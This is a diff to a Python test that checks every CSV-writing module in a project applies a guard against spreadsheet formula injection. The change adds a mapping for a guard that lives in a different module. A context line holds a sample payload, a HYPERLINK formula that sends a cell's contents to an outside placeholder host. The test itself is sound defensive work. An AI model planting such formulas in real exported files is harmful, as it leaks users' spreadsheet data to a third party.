@@ -20,6 +20,8 @@ from mikrovirk.overview.panels.parts import Column, Panel, Table
 
 SOURCE = Path(__file__).parents[2] / "src" / "mikrovirk"
 EVIL = '=HYPERLINK("https://example.org/?"&A1;"Klik")'
+# What makes the cells of a file that another module writes.
+MADE_BY = {"home/open_formats/writing.py": "home/open_formats/tables.py"}
 # Written without the guard, and why.
 WITHOUT = {
     "fund/domain/pabulib/writing.py": "a .pb file is read by programs that count, letter for letter; no spreadsheet opens it"
@@ -59,7 +61,9 @@ def test_every_file_for_a_spreadsheet_goes_by_the_guard() -> None:
         for path in SOURCE.rglob("*.py")
         if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
     }
-    guarded = {name for name in writing_files if re.search(r"[\[(]harmless\(", (SOURCE / name).read_text())}
+    guarded = {
+        name for name in writing_files if re.search(r"[\[(]harmless\(", (SOURCE / MADE_BY.get(name, name)).read_text())
+    }
     assert writing_files - guarded == set(WITHOUT)
 
 
